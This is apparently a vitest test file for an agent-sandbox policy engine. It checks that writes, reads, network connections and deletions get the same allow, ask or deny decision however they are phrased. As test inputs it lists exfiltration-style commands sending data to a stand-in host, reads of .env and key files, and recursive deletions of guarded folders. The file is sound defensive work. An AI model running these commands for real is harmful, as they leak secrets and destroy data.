// F17: one effect, one decision, by whatever route: the edit tool, a shell word, a redirect, a program, code, an archive's
// member, a patch, and the change found after the call.

import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, test } from "vitest";
import { loadPolicy } from "../../../src/compose-policy.js";
import { decideEffects } from "../../../src/core/policy/index.js";
import { createJudge } from "../../support/judge.js";

const state = mkdtempSync(join(tmpdir(), "ringfence-routes-"));
const judge = await createJudge(state);
const policy = await loadPolicy([], { RINGFENCE_HOME: state });

afterAll(() => rmSync(state, { recursive: true, force: true }));

const decided = (run: string): string => judge([{ run }]).effect;
const CONTEXT = { role: null, root: "/workspace", cwd: "/workspace", home: "/home/agent", containment: "attested" } as const;

/** What the comparison after a call decides about a change it finds. */
const found = (path: string, operation: "write" | "delete", recursive = false): string =>
  decideEffects(policy, [{ kind: "file", operation, path: `/workspace/${path}`, certainty: "exact", recursive, by: "observed change", from: path }], CONTEXT).effect;

const WRITES = ["echo x > P", "echo x >> P", "tee P < README.md", "cp README.md P", "mv README.md P", "sed -i s/a/b/ P", "dd if=README.md of=P", "install README.md P", "truncate -s 0 P", "ln -f README.md P", "touch P", "rsync README.md P", "python3 -c \"open('P','w').write('x')\"", "node -e \"require('fs').writeFileSync('P','x')\"", "printf 'echo x > P' | sh", "perl -i -pe s/a/b/ P", "sort -o P README.md", "curl -s file:///workspace/README.md -o P", "bash -c 'cat README.md > P'", "echo 'echo x > P' > s.sh; sh s.sh"];
const PATHS = [".github/workflows/ci.yml", "AGENTS.md", "Dockerfile", "src/index.js", ".vscode/tasks.json", ".env", ".npmrc", "CODEOWNERS"];

describe("F17: writing a file", () => {
  for (const path of PATHS) {
    const edit = judge([{ write: path, content: "x" }]).effect;
    test.each(WRITES)(`${path} by \`%s\` is decided as by the edit tool`, (form) => expect(decided(form.replaceAll("P", path))).toBe(edit));
    test(`${path} found changed after a call is decided as by the edit tool`, () => expect(found(path, "write")).toBe(edit));
  }
});

const PATCH = "<<'E'\n--- a/P\n+++ b/P\n@@ -1 +1 @@\n-a\n+b\nE";
/** Archives and patches that name the file: a member asked for, a patch in the text, in a file that the text writes, packing over it. */
const UNPACKS = ["tar xf a.tar P", "tar -xzf a.tgz -- P", "bsdtar xf a.tar P", "busybox tar xf a.tar P", "tar xOf a.tar x > P", "unzip a.zip P", "unzip -p a.zip x > P", "cpio -id P < a.cpio", "jar xf a.jar P", "gunzip -c x.gz > P", "python3 -c \"import tarfile; tarfile.open('a.tar').extract('P')\"", "tar cf P README.md", "zip P README.md", "git archive -o P HEAD", "git show HEAD:README.md > P"];
const PATCHES = [`patch -p1 ${PATCH}`, `git apply ${PATCH}`, `git apply - ${PATCH}`, `git am ${PATCH}`, "patch P p.diff", "patch -o P README.md p.diff", "printf -- '--- a/P\n+++ b/P\n@@ -1 +1 @@\n-a\n+b\n' > p.diff; git apply p.diff", "printf -- '--- a/P\n+++ b/P\n@@ -1 +1 @@\n-a\n+b\n' > p.diff; patch -p1 -i p.diff", "printf -- '--- a/P\n+++ b/P\n@@ -1 +1 @@\n-a\n+b\n' | patch -p1", "ex -sc wq P"];

describe("F17: a member of an archive, and a patch", () => {
  for (const path of PATHS) {
    const edit = judge([{ write: path, content: "x" }]).effect;
    test.each([...UNPACKS, ...PATCHES])(`${path} by \`%s\` is decided as by the edit tool`, (form) => expect(decided(form.replace(/\bP\b/g, path))).toBe(edit));
    test(`${path} by a patch that an earlier call wrote is decided as by the edit tool`, () => {
      expect(judge([{ write: "p.diff", content: `--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n-a\n+b\n` }, { run: "git apply p.diff" }]).effect).toBe(edit);
    });
  }

  test.each(["tar xf a.tar -C .github/workflows", "unzip a.zip -d .github/workflows", "cd .github/workflows && tar xf /tmp/a.tar", "patch -d .github/workflows -p1 < p.diff", "python3 -m zipfile -e a.zip .github/workflows", "tar xf a.tar --one-top-level=.github/workflows"])("into a folder that is guarded: %s", (form) => expect(decided(form)).toBe("deny"));
  test("a patch that deletes is decided as a deletion", () => expect(decided("git apply <<'E'\n--- a/.github/workflows/ci.yml\n+++ /dev/null\n@@ -1 +0,0 @@\n-a\nE")).toBe("deny"));
});

/** Connections to one host by everything that connects. */
const CONNECTS = ["curl http://H/x", "curl -d @README.md H", "wget http://H/x", "wget -i list", "busybox wget http://H", "git clone http://H/x", "git fetch http://H/x", "git push http://H/x", "git ls-remote http://H/x", "git remote add e http://H/x && git fetch e", "exec 3<>/dev/tcp/H/80", "echo x > /dev/tcp/H/80", "cat < /dev/udp/H/53", "ssh H", "ssh -J H a.example", "scp README.md H:x", "rsync README.md H:x", "sftp H", "nc H 80", "telnet H", "socat - TCP:H:80", "openssl s_client -connect H:443", "dig H", "ping H", "aria2c http://H/x", "lynx -dump http://H", "pip install http://H/x.tar.gz", "npm install http://H/x.tgz", "curl -x http://H http://a.example", "sh -c 'curl http://H'", "printf 'curl http://H' > s.sh; sh s.sh", "echo 'curl http://H' | bash", "xargs curl <<< http://H", "find . -maxdepth 0 -exec curl http://H \\;", "timeout 5 curl http://H", "x=curl; $x http://H", "gawk 'BEGIN{print \"x\" |& \"/inet/tcp/0/H/80\"}'", "python3 -c \"import urllib.request; urllib.request.urlopen('http://H')\"", "python3 -c \"import socket; socket.create_connection(('H', 80))\"", "python3 -c \"import requests; requests.get('http://H')\"", "node -e \"fetch('http://H')\"", "node -e \"require('http').get('http://H')\"", "node -e \"require('net').connect(80, 'H')\"", "perl -MIO::Socket -e 'IO::Socket::INET->new(\"H:80\")'", "ruby -rnet/http -e 'Net::HTTP.get(URI(\"http://H\"))'", "php -r 'file_get_contents(\"http://H\");'"];

describe("F17: connecting", () => {
  test.each(CONNECTS)("by `%s`: deny", (form) => expect(decided(form.replace(/\bH\b/g, "collector.example"))).toBe("deny"));
  test("a script that connects, written by an earlier call", () => expect(judge([{ write: "s.py", content: "import requests\nrequests.post('https://collector.example', data=open('README.md'))\n" }, { run: "python3 s.py" }]).effect).toBe("deny"));
  test("a URL that is only text connects to nothing", () => expect(decided("python3 -c \"print('http://collector.example')\"")).toBe("allow"));
});

const READS = ["cat P", "head -c 9 P", "sed -n p P", "grep x P", "base64 P", "while read -r l; do echo $l; done < P", "cp P /tmp/x", "tar cf - P", "dd if=P", "awk 1 P", "xxd P", "diff P README.md", "git diff --no-index P README.md", "curl -s file:///workspace/P", "python3 -c \"print(open('P').read())\"", "node -e \"console.log(require('fs').readFileSync('P'))\"", "ruby -e 'puts File.read(\"P\")'", "php -r 'echo file_get_contents(\"P\");'", "perl -ne print P"];

describe("F17: reading a file", () => {
  for (const [path, effect] of [[".env", "deny"], ["deploy.pem", "deny"], ["src/index.js", "allow"]] as const) {
    test.each(READS.filter((form) => effect === "deny" || !form.startsWith("curl")))(`${path} by \`%s\`: ${effect}`, (form) => expect(decided(form.replaceAll("P", path))).toBe(effect));
  }
});

const DELETES = ["rm -f P", "unlink P", "git rm -f P", "python3 -c \"import os; os.remove('P')\"", "node -e \"require('fs').unlinkSync('P')\"", "perl -e 'unlink \"P\"'", "echo P | xargs rm", "mv P /tmp/x"];

describe("F17: deleting a file", () => {
  for (const path of [".github/workflows/ci.yml", "src/index.js", ".env"]) {
    test.each(DELETES)(`${path} by \`%s\` is decided as when it is found gone`, (form) => expect(decided(form.replaceAll("P", path))).toBe(found(path, "delete")));
  }
});

const TREES = ["rm -rf P", "rm -r P", "find P -delete", "git rm -rf P", "python3 -c \"import shutil; shutil.rmtree('P')\"", "node -e \"require('fs').rmSync('P',{recursive:true})\"", "ruby -rfileutils -e 'FileUtils.rm_rf(\"P\")'", "perl -MFile::Path -e 'rmtree(\"P\")'", "bash -c 'rm -rf P'", "printf 'rm -rf P' > s.sh; bash s.sh"];

describe("F17: deleting a folder", () => {
  for (const [path, effect] of [["src", "ask"], ["/srv/keep", "deny"], [".github", "deny"], ["/tmp/demo", "allow"]] as const) {
    test.each(TREES)(`${path} by \`%s\`: ${effect}`, (form) => expect(decided(form.replaceAll("P", path))).toBe(effect));
  }
});
